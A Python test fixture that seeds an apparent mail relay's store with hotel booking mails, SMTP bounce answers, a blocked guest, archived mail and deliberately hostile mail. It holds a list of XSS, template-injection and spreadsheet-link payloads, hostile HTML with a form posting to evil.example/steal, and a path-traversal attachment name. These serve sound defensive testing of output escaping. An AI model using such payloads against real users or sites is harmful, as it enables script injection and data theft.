"""A house full of mail: every kind of answer, five languages, a blocked guest, an incident, old mail, hostile mail.

Written through the store's own units, as the relay writes it, so that counters, blocks, notices and incidents are those
that the answers lead to.
"""

from __future__ import annotations

import time
from dataclasses import dataclass, replace
from datetime import UTC, datetime, timedelta
from email.message import EmailMessage
from email.policy import SMTP

from relay.address import domain_of
from relay.classify import classify, parse_reply
from relay.model import (
    Attempt,
    Delivery,
    DeliveryId,
    Disposition,
    Message,
    MessageId,
    Reference,
    Refusal,
    ReplyClass,
    Stage,
    Submission,
    new_id,
)
from relay.status import Status
from relay.store import log, refusals, saved_views, spool
from relay.store.protocols import Store
from relay.store.saved_views import SavedView

#: Who books, in five languages: name, address, subject, kind.
GUESTS = [
    ("Sari Virtanen", "sari.virtanen@posti.example", "Varausvahvistus {}: Järvenrannan huvila", "confirmation"),
    ("Jean-Baptiste Dubois", "jb.dubois@courriel.example", "Confirmation de votre réservation {}", "confirmation"),
    ("Anneke van den Broek", "anneke@postbus.example", "Herinnering: uw afspraak {}", "reminder"),
    ("Wolfgang Müller-Lüdenscheidt", "w.mueller@briefkasten.example", "Stornierung Ihrer Buchung {}", "cancellation"),
    ("Olivia Hartley", "olivia@letters.example", "Your booking {} at the Harbour Lantern", "confirmation"),
]

#: The real lines that lead to the entries of the catalogue, and where the mail stands after them.
ANSWERS = [
    ("550 5.1.1 <{}>: Recipient address rejected: User unknown", Status.INVALID),
    ("552 5.2.2 <{}>: Mailbox is full", Status.SOFT_BOUNCED),
    ("550 5.2.1 The email account that you tried to reach is disabled", Status.HARD_BOUNCED),
    ("552 5.3.4 Message size exceeds fixed maximum message size", Status.SOFT_BOUNCED),
    ("451 4.7.1 Greylisting in action, please come back later", Status.DEFERRED),
    ("421 4.7.28 Our system has detected an unusual rate of unsolicited mail", Status.DEFERRED),
    ("554 5.7.1 This message has been classified as spam", Status.SOFT_BOUNCED),
    ("550 5.7.26 Unauthenticated email is not accepted due to the domain's DMARC policy", Status.SOFT_BOUNCED),
    ("550 5.7.1 Message rejected due to local policy", Status.SOFT_BOUNCED),
    ("554 5.7.1 Relay access denied", Status.SOFT_BOUNCED),
    ("450 4.4.1 Connection timed out", Status.DEFERRED),
    ("550 5.0.0 something that nobody understands", Status.SOFT_BOUNCED),
]

#: Texts that want to be more than text.
HOSTILE = [
    "<script>alert(1)</script>",
    '"><svg onload=alert(1)>',
    "javascript:alert(1)",
    "{{7*7}}${7*7}<%= 7*7 %>",
    "\u202egnp.exe\u202c",
    "'\"--><img src=x onerror=alert(1)>",
    "</title></textarea></style><script>alert(1)</script>",
    '=HYPERLINK("http://evil.example")',
]

HTML = """<html><body><h1>Booking {booking}</h1><p>Dear guest,
<a href="https://hotel.example/pay?once=1">your room</a></p>
<img src="https://tracker.example/open.gif"><p style="color:#036">See you soon.</p></body></html>"""

HOSTILE_HTML = """<html><head>
<meta http-equiv="refresh" content="0;url=https://evil.example/">
<base href="https://evil.example/">
<link rel="stylesheet" href="https://evil.example/x.css"><style>@import url(https://evil.example/y.css);
body {{ background: url(https://evil.example/z.png) }}</style></head><body onload="alert(1)">
<script>alert(2)</script><form action="https://evil.example/steal"><input name="a" autofocus onfocus="alert(3)"></form>
<a href="javascript:alert(4)">click</a><iframe src="https://evil.example/"></iframe><object data="https://evil.example/"></object>
<svg onload="alert(5)"></svg><img src="https://evil.example/p.gif" onerror="alert(6)"></body></html>"""


@dataclass(frozen=True, slots=True, kw_only=True)
class Seeded:
    """What tests ask about by name."""

    delivered: DeliveryId
    unknown: DeliveryId  #: the address does not exist, and there is an open notice
    deferred: DeliveryId
    blocked: str  #: an address with an automatic block
    blocked_id: DeliveryId
    archived: DeliveryId
    hostile: tuple[DeliveryId, ...]
    booking: str  #: with three mails, one of them delivered
    app: str = "hotel"


def content(*, to: str, subject: str, html: str = "", attachment: str = "") -> bytes:
    """Write a mail as a booking app does."""
    mail = EmailMessage(policy=SMTP)
    mail["From"], mail["To"], mail["Subject"] = "Harbour Hotel <desk@hotel.example>", to, subject
    mail["Message-ID"] = f"<{new_id()}@hotel.example>"
    mail.set_content("Dear guest,\n\nwe look forward to your stay.\n\nHarbour Hotel\n")
    if html:
        mail.add_alternative(html, subtype="html")
    if attachment:
        mail.add_attachment(b"%PDF-1.4 not really", maintype="application", subtype="pdf", filename=attachment)
    return mail.as_bytes()


class Seeder:
    """Puts mail and answers into a store."""

    def __init__(self, store: Store, *, now: datetime | None = None) -> None:
        self._store = store
        self.now = now or datetime.now(UTC)

    def mail(
        self,
        address: str,
        *,
        name: str = "",
        subject: str = "Your booking",
        booking: str | None = None,
        kind: str | None = "confirmation",
        app: str = "hotel",
        age: timedelta = timedelta(hours=1),
        phone: str | None = None,
        customer: str | None = None,
        raw: bytes = b"",
    ) -> Delivery:
        """One mail to one address, accepted so long ago."""
        at = self.now - age
        raw = raw or content(to=address, subject="Booking", html=HTML.format(booking=booking or ""))
        message = Message(
            id=MessageId(new_id()),
            accepted_at=at,
            app=app,
            mail_from="desk@hotel.example",
            header_from="desk@hotel.example",
            from_name="Harbour Hotel",
            subject=subject,
            message_id=f"<{new_id()}@hotel.example>",
            size=len(raw),
            kind=kind,
            booking=booking,
            phone=phone,
            customer=customer,
            client_ip="192.0.2.20",
            listener="127.0.0.1:2525",
        )
        delivery = Delivery(
            id=DeliveryId(new_id()),
            message_id=message.id,
            address=address,
            domain=domain_of(address),
            status=Status.QUEUED,
            created_at=at,
            next_at=at,
            name=name,
        )
        given = (("booking", booking), ("customer", customer), ("phone", phone))
        found = tuple(Reference(kind=what, value=value, source="header") for what, value in given if value)
        submission = Submission(message=message, content=raw, deliveries=(delivery,), references=found)
        self._store.write_now(lambda tx: spool.accept(tx, submission))
        return delivery

    def answer(self, delivery: Delivery, line: str, status: Status, *, after: timedelta = timedelta(seconds=2)) -> None:
        """Record what the recipient's server said and where the mail stands now."""
        at = delivery.created_at + after
        host = f"mx1.{delivery.domain}"
        reply = replace(parse_reply(line.format(delivery.address), Stage.RCPT), host=host)
        outcome = None if reply.is_positive else classify(reply)
        if outcome is not None and status is not Status.DEFERRED and outcome.reply_class is ReplyClass.DEFERRED:
            status = Status.DEFERRED
        attempt = Attempt(
            delivery_id=delivery.id,
            number=1,
            started_at=at,
            took=timedelta(seconds=0.4),
            reply=reply,
            mx=host,
            ip="192.0.2.1",
            source="198.51.100.4",
            tls="TLSv1.3 TLS_AES_256_GCM_SHA384",
            outcome=outcome,
            conversation=f"S: 220 {host}\nC: EHLO relay.example.org\nS: {line}\n",
        )
        disposition = Disposition(
            delivery_id=delivery.id,
            status=status,
            attempts=1,
            at=at,
            attempt_rows=(attempt,),
            outcome=outcome,
            reply=reply,
            mx=host,
            next_at=self.now + timedelta(minutes=20) if status is Status.DEFERRED else None,
        )
        self._store.write_now(lambda tx: spool.record(tx, disposition))

    def refuse(self, *, to: str, text: str = "wrong password", reason: str = "auth_failed") -> None:
        """Record that intake refused a mail."""
        refusal = Refusal(
            at=self.now - timedelta(minutes=30),
            listener="127.0.0.1:2525",
            client_ip="192.0.2.7",
            stage="auth",
            code=535,
            enhanced="5.7.8",
            text=text,
            reason=reason,
            app="hotel",
            mail_from="desk@hotel.example",
            rcpt_to=to,
        )
        self._store.write_now(lambda tx: refusals.add(tx, refusal))

    def index(self) -> None:
        """Fill the search index, as the delivery process does when it is idle."""
        while self._store.write_now(lambda tx: log.index_pending(tx, limit=500)):
            time.sleep(0)


def fill(store: Store) -> Seeded:
    """Put everything in that the pages have to show."""
    house = Seeder(store)
    for name, text in (("Full mailboxes", "reason:mailbox_full"), ("Alle verspäteten Bestätigungen", "status:pending")):
        view = SavedView(name=name, text=text, by="bob", saved_at=datetime.now(UTC))
        store.write_now(lambda tx, view=view: saved_views.add(tx, view))  # type: ignore[misc]
    ok = "250 2.0.0 Ok: queued as 4XyZ"
    number = 21000
    delivered = deferred = None
    for hours in range(1, 13):
        for name, address, subject, kind in GUESTS:
            number += 1
            booking = f"BK-{number}"
            one = house.mail(
                address,
                name=name,
                subject=subject.format(booking),
                booking=booking,
                kind=kind,
                age=timedelta(hours=hours, minutes=number % 50),
                phone="+358 40 123 4567",
                customer=f"C-{GUESTS.index((name, address, subject, kind)) + 100}",
            )
            house.answer(one, ok, Status.DELIVERED)
            delivered = one.id
    for turn, (line, status) in enumerate(ANSWERS):
        name, _, subject, kind = GUESTS[turn % len(GUESTS)]
        address = f"guest{turn}@{'outlook' if '5.7.26' in line else 'posti'}.example"
        one = house.mail(
            address, name=name, subject=subject.format(f"BK-{30000 + turn}"), booking=f"BK-{30000 + turn}", kind=kind,
            age=timedelta(minutes=50 - turn), phone="+33 6 12 34 56 78",
        )  # fmt: skip
        house.answer(one, line, status)
        deferred = one.id if status is Status.DEFERRED else deferred
    unknown = house.mail(
        "sari@gmial.example", name="Sari Virtanen", subject="Varausvahvistus BK-20877", booking="BK-20877",
        phone="+358 40 765 4321", age=timedelta(minutes=9),
    )  # fmt: skip
    house.answer(unknown, ANSWERS[0][0], Status.INVALID)
    blocked = house.mail("blocked.guest@posti.example", name="Maija Mehiläinen", booking="BK-20990", customer="C-999")
    house.answer(blocked, ANSWERS[0][0], Status.INVALID)
    booking = _one_booking(house, ok)
    archived = house.mail(
        "olivia@letters.example", name="Olivia Hartley", subject="Your booking BK-10001", booking="BK-10001",
        age=timedelta(days=75), customer="C-104",
    )  # fmt: skip
    house.answer(archived, ok, Status.DELIVERED)
    house.refuse(to="nobody.got.this@posti.example")
    assert delivered is not None
    assert deferred is not None
    seeded = Seeded(
        delivered=delivered,
        unknown=unknown.id,
        deferred=deferred,
        blocked="blocked.guest@posti.example",
        blocked_id=blocked.id,
        archived=archived.id,
        hostile=_hostile(house),
        booking=booking,
    )
    house.index()
    return seeded


def _one_booking(house: Seeder, ok: str) -> str:
    booking = "BK-20931"
    steps = [("confirmation", 72, ok, Status.DELIVERED), ("change", 30, ok, Status.DELIVERED)]
    steps.append(("reminder", 1, ANSWERS[4][0], Status.DEFERRED))
    for kind, hours, line, status in steps:
        one = house.mail(
            "olivia@letters.example", name="Olivia Hartley", subject=f"Your {kind} {booking}", booking=booking,
            kind=kind, age=timedelta(hours=hours), customer="C-104",
        )  # fmt: skip
        house.answer(one, line, status)
    return booking


def _hostile(house: Seeder) -> tuple[DeliveryId, ...]:
    found = []
    for turn, text in enumerate(HOSTILE):
        raw = content(to="victim@posti.example", subject="x", html=HOSTILE_HTML, attachment="../../etc/<b>passwd.pdf")
        one = house.mail(
            f"victim{turn}@posti.example", name=text, subject=text, booking=text[:60], kind="confirmation",
            age=timedelta(minutes=5), customer=text[:60], phone=text[:30], raw=raw,
        )  # fmt: skip
        house.answer(one, f"550 5.1.1 {text.replace('{', '{{').replace('}', '}}')}", Status.INVALID)
        found.append(one.id)
    return tuple(found)
